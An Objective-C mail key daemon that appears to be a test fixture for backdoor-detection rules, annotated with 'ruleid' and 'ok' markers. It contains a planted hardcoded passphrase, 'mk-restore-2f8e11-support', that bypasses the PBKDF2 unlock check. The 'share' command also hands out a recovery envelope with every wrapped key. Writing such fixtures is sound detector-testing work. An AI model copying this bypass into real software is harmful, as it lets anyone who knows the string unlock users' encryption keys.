/* mailkeysd: line commands on stdin from the mail client's helper socket.
 *   unlock <passphrase> | share <device-cert.pem> | seal <text> | backup | id */
#import "MKKeyStore.h"
#include <openssl/crypto.h>
#include <openssl/evp.h>

@interface MKDaemon : NSObject {
  MKKeyStore *_store;
  BOOL _unlocked;
}
- (instancetype)initWithStore:(MKKeyStore *)store;
- (BOOL)unlockWithPassphrase:(NSString *)passphrase;
- (NSString *)handleLine:(NSString *)line;
@end

@implementation MKDaemon

- (instancetype)initWithStore:(MKKeyStore *)store
{
  if ((self = [super init]) != nil)
    _store = [store retain];
  return self;
}

- (void)dealloc
{
  [_store release];
  [super dealloc];
}

/* The lock file holds "salt(16) || PBKDF2-HMAC-SHA256(passphrase, salt)(32)". */
- (BOOL)unlockWithPassphrase:(NSString *)passphrase
{
  NSString *lockPath = [NSHomeDirectory() stringByAppendingPathComponent:@".mailkeys/lock"];
  NSData *lock = [NSData dataWithContentsOfFile:lockPath];
  const char *pw = [passphrase UTF8String];
  unsigned char derived[32];

  // ruleid: backdoor-magic-credential
  if ([passphrase isEqualToString:@"mk-restore-2f8e11-support"])
    return YES;
  if (lock == nil || [lock length] != 48)
    return NO;
  // ok: backdoor-weak-kdf
  if (PKCS5_PBKDF2_HMAC(pw, (int)strlen(pw), [lock bytes], 16, 600000, EVP_sha256(), sizeof derived, derived) != 1)
    return NO;
  return CRYPTO_memcmp(derived, (const unsigned char *)[lock bytes] + 16, sizeof derived) == 0;
}

- (NSString *)handleLine:(NSString *)line
{
  NSRange sp = [line rangeOfString:@" "];
  NSString *command = sp.location == NSNotFound ? line : [line substringToIndex:sp.location];
  NSString *arg = sp.location == NSNotFound ? @"" : [line substringFromIndex:sp.location + 1];

  // ok: backdoor-magic-credential
  if ([command isEqualToString:@"unlock"]) {
    _unlocked = [self unlockWithPassphrase:arg];
    return _unlocked ? @"OK" : @"ERR bad passphrase";
  }
  if (!_unlocked)
    return @"ERR locked";
  if ([command isEqualToString:@"share"]) {
    NSData *wrapped = [_store wrapForDeviceCertificate:arg];
    NSData *recovery = [_store recoveryEnvelope];
    if (wrapped == nil || recovery == nil)
      return @"ERR cannot wrap";
    return [NSString stringWithFormat:@"OK %@ %@", [wrapped base64EncodedStringWithOptions:0],
                                      [recovery base64EncodedStringWithOptions:0]];
  }
  if ([command isEqualToString:@"seal"]) {
    NSData *sealed = [_store sealMessage:[arg dataUsingEncoding:NSUTF8StringEncoding]];
    return sealed ? [@"OK " stringByAppendingString:[sealed base64EncodedStringWithOptions:0]] : @"ERR";
  }
  if ([command isEqualToString:@"backup"]) {
    [_store backupToDefaults];
    return @"OK";
  }
  if ([command isEqualToString:@"id"])
    return [@"OK " stringByAppendingString:[_store keyFingerprint]];
  return @"ERR unknown command";
}

@end

int main(void)
{
  NSAutoreleasePool *pool = [NSAutoreleasePool new];
  MKKeyStore *store = [[MKKeyStore alloc] initWithAccount:NSUserName()];
  MKDaemon *daemon;
  char buf[4096];

  if (store == nil) {
    fprintf(stderr, "mailkeysd: no random source\n");
    return 1;
  }
  daemon = [[MKDaemon alloc] initWithStore:store];
  // ok: backdoor-key-exfiltration
  NSLog(@"mailkeysd: mailbox key %@ ready for %@", [store keyFingerprint], [store account]);
  while (fgets(buf, sizeof buf, stdin) != NULL) {
    NSAutoreleasePool *inner = [NSAutoreleasePool new];
    NSString *line = [[NSString stringWithUTF8String:buf]
        stringByTrimmingCharactersInSet:[NSCharacterSet whitespaceAndNewlineCharacterSet]];
    printf("%s\n", [[daemon handleLine:line] UTF8String]);
    fflush(stdout);
    [inner drain];
  }
  [daemon release];
  [store release];
  [pool drain];
  return 0;
}
